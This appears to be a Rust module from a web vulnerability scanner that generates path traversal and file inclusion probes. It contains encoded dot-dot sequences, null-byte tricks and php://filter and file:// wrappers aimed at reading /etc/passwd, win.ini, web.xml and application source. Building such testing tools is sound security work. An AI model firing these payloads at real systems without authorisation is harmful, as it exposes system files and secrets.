//! Ways out of a folder.

use model::definition::Effect;
use model::profile::Payloads;

use super::files::Proof;
use crate::probe::Probe;

/// `{F}` stands for the file, `{U}` and `{W}` for ways up with either slash, `{V}` for the present value and `{D}` for its folder.
const UNIX: &[(Payloads, &str)] = &[
    (Payloads::Light, "{U}{F}"),
    (Payloads::Light, "/{F}"),
    (Payloads::Light, "file:///{F}"),
    (Payloads::Normal, "{D}/{U}{F}"),
    (Payloads::Normal, "....//....//....//....//....//....//....//....//{F}"),
    (Payloads::Normal, "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f{E}"),
    (Payloads::Normal, "{U}{F}\0.{X}"),
    (Payloads::Normal, "/{U}{F}"),
    (Payloads::Normal, "{V}/{U}{F}"),
    (Payloads::Normal, "..././..././..././..././..././..././..././..././{F}"),
    (
        Payloads::Thorough,
        "%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252f{E}",
    ),
    (Payloads::Thorough, "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f{E}"),
    (Payloads::Thorough, "..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af..%c0%af{E}"),
    (Payloads::Thorough, "....\\/....\\/....\\/....\\/....\\/....\\/....\\/....\\/{F}"),
    (Payloads::Thorough, "{U}{F}?.{X}"),
    (Payloads::Thorough, "{W}{F}"),
    (Payloads::Thorough, "../{F}"),
    (Payloads::Thorough, "../../{F}"),
    (Payloads::Thorough, "../../../{F}"),
    (Payloads::Thorough, "/var/www/{U}{F}"),
    (Payloads::Thorough, "php://filter/resource=/{F}"),
    (Payloads::Thorough, "file://localhost/{F}"),
];
const WINDOWS: &[(Payloads, &str)] = &[
    (Payloads::Normal, "{W}{F}"),
    (Payloads::Normal, "C:\\{F}"),
    (Payloads::Thorough, "{U}{F}"),
    (Payloads::Thorough, "C:/{F}"),
    (Payloads::Thorough, "{W}{F}\0.{X}"),
];
const JAVA: &[(Payloads, &str)] = &[
    (Payloads::Normal, "../{F}"),
    (Payloads::Normal, "/{F}"),
    (Payloads::Thorough, "{F}"),
    (Payloads::Thorough, "../../{F}"),
    (Payloads::Thorough, "../../../{F}"),
];
/// Ways with the payloads from which they are tried.
type Templates = &'static [(Payloads, &'static str)];

/// How far up: deeper than any folder that is served; the top of a machine is its own parent.
const UP: usize = 10;

/// A file asked for in one way.
pub(super) struct Attempt {
    template: String,
    folder: &'static str,
    name: String,
    pub(super) proof: Proof,
}

impl Attempt {
    /// The payload.
    pub(super) fn value(&self, probe: &Probe<'_>) -> String {
        self.with(probe, &self.name)
    }

    /// The same for a file that is not there.
    pub(super) fn control(&self, probe: &Probe<'_>) -> String {
        self.with(probe, &probe.token())
    }

    fn with(&self, probe: &Probe<'_>, name: &str) -> String {
        let slash = if self.folder.contains('\\') { "\\" } else { "/" };
        // No two requests that may change something are equal; empty parts of a path and a folder's own name change nothing.
        let own = if probe.request.effect() > Effect::Safe {
            let bits = probe.client.env().below(1 << 20);
            (0..20).map(|i| if bits >> i & 1 == 0 { slash.to_owned() } else { format!(".{slash}") }).collect()
        } else {
            String::new()
        };
        let file = if self.folder.is_empty() {
            name.to_owned()
        } else {
            format!("{}{slash}{own}{name}", self.folder)
        };
        let value = probe.point.value.as_str();
        let folder = value.rsplit_once('/').map_or(value, |(folder, _)| folder);
        self.template
            .replace("{U}", &"../".repeat(UP))
            .replace("{W}", &"..\\".repeat(UP))
            .replace("{E}", &file.replace('/', "%2f"))
            .replace("{F}", &file)
            .replace("{X}", extension(value))
            .replace("{D}", folder)
            .replace("{V}", value)
    }
}

/// The extension of a file name; one that pages commonly demand where there is none.
fn extension(value: &str) -> &str {
    match value.rsplit_once('.') {
        Some((_, x)) if (1..=5).contains(&x.len()) && x.bytes().all(|b| b.is_ascii_alphanumeric()) => x,
        _ => "png",
    }
}

/// Every way that fits the number of payloads.
pub(super) fn traversal_attempts(probe: &Probe<'_>) -> Vec<Attempt> {
    let known = |names: &[&str]| probe.stack.iter().any(|s| names.iter().any(|n| s.contains(n)));
    let windows = known(&["windows", "iis", "asp.net"]);
    let mut out = Vec::new();
    let sets: [(Templates, &'static str, &str, Proof); 3] = [
        (UNIX, "etc", "passwd", Proof::Passwd),
        (WINDOWS, "windows", "win.ini", Proof::WinIni),
        (JAVA, "WEB-INF", "web.xml", Proof::WebXml),
    ];
    for (templates, folder, name, proof) in sets {
        for (from, template) in templates {
            let wanted = *from <= probe.payloads || (windows && proof == Proof::WinIni);
            let value = probe.point.value.as_str();
            let empty = value.is_empty() && (template.contains("{V}") || template.contains("{D}"));
            let segment = probe.point.place == crawl::Place::PathSegment
                && !template.contains("..")
                && !template.contains("{U}");
            // A value without a slash is its own folder.
            let twice = template.contains("{V}") && !value.contains('/');
            if wanted && !empty && !segment && !twice {
                let folder = if template.contains("{W}") || template.contains('\\') {
                    folder_back(folder)
                } else {
                    folder
                };
                out.push(Attempt { template: (*template).to_owned(), folder, name: name.to_owned(), proof });
            }
        }
    }
    out
}

/// A folder below which names are joined by backslashes, where Windows is meant.
fn folder_back(folder: &'static str) -> &'static str {
    if folder == "windows" { ".\\windows" } else { folder }
}

/// The application's own source: the present file by a filter of PHP, and the script behind the page as a file.
pub(super) fn source_attempts(probe: &Probe<'_>) -> Vec<Attempt> {
    let mut names: Vec<String> = Vec::new();
    let script = probe.request.url.segments().last().filter(|s| s.contains('.')).map(str::to_owned);
    let value = probe.point.value.as_str();
    let looks_like_page =
        crate::data::point::is_name(value) || value.ends_with(".php") || value.ends_with(".html");
    names.extend(script.clone());
    if looks_like_page {
        names.push(value.to_owned());
    }
    names.push("index".to_owned());
    names.push("index.php".to_owned());
    names.dedup();
    let mut out = Vec::new();
    for name in &names {
        let template = "php://filter/convert.base64-encode/resource={F}";
        out.push(Attempt {
            template: template.to_owned(),
            folder: "",
            name: name.clone(),
            proof: Proof::EncodedPhp,
        });
    }
    let readable = script
        .filter(|s| [".php", ".jsp", ".asp", ".aspx", ".pl", ".py", ".cgi"].iter().any(|x| s.ends_with(x)));
    let script_names =
        readable.into_iter().chain(["index.php".to_owned(), "app.py".to_owned(), "app.js".to_owned()]);
    for name in script_names {
        for template in ["{F}", "../{F}", "./{F}"] {
            let fits = template == "{F}" || probe.payloads >= Payloads::Thorough;
            if fits && (name != "app.py" && name != "app.js" || probe.payloads >= Payloads::Thorough) {
                let template = template.to_owned();
                out.push(Attempt { template, folder: "", name: name.clone(), proof: Proof::Script });
            }
        }
    }
    out
}
